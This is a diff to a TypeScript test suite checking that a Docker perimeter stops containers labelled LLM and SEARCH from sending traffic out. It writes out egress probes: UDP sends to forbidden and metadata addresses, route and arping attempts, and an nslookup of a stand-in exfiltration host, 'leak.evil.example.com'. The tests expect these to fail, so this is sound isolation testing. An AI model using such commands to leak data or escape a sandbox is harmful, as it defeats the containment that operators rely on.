@@ -131,11 +131,12 @@ describeDocker('a perimeter on a Docker engine', () => {
       const send = (address: string): string => `echo x >/dev/udp/${address}/${UDP_PORT}`;
       const targets = [FORBIDDEN_ADDRESS, METADATA_ADDRESS, '10.213.0.1', '10.213.113.81', '2606:2800:21f::14'];
       const ping = (address: string): string => `ping -c 1 -W 1 ${address} >/dev/null 2>&1 && echo ${address}`;
-      // Against a tool that cannot send at all: its neighbour answers.
-      const pings = ['10.213.113.98', ...targets].map(ping).join('; ');
-      expect((await scene.engine.inside(LLM, `${targets.map(send).join('; ')}; ${pings}`)).stdout).toBe(
-        '10.213.113.98\n',
+      // That the tool can send at all is told by its neighbour, which answers.
+      const pings = ['10.213.113.82', ...targets].map(ping).join('; ');
+      expect((await scene.engine.inside(SEARCH, `${targets.map(send).join('; ')}; ${pings}`)).stdout).toBe(
+        '10.213.113.82\n',
       );
+      await scene.engine.inside(LLM, targets.map(send).join('; '));
       expect((await scene.engine.inside(LLM, 'ip -6 address')).stdout).toBe('');
       expect((await scene.engine.inside(LLM, 'ip route add 0.0.0.0/1 via 10.213.113.98')).code).not.toBe(0);
       expect((await scene.engine.inside(LLM, 'arping -c 1 -I eth0 10.213.113.98')).code).not.toBe(0);
@@ -143,12 +144,13 @@ describeDocker('a perimeter on a Docker engine', () => {
     });
 
     test('answers no workload about names, through no resolver', async () => {
-      for (const container of [SEARCH, LLM]) {
-        for (const resolver of ['', '127.0.0.11', '10.213.113.81', '10.213.0.2', '127.0.0.53']) {
-          const asked = await scene.engine.inside(container, `timeout 3 nslookup leak.evil.example.com ${resolver}`);
-          expect(asked.code).not.toBe(0);
-        }
-      }
+      const resolvers = ['', '127.0.0.11', '10.213.113.81', '10.213.0.2', '127.0.0.53'];
+      const asked = resolvers.flatMap((resolver) =>
+        [SEARCH, LLM].map((container) =>
+          scene.engine.inside(container, `timeout 5 nslookup leak.evil.example.com ${resolver}`),
+        ),
+      );
+      for (const { code } of await Promise.all(asked)) expect(code).not.toBe(0);
       expect(scene.dns.names).toEqual([]);
     });
 
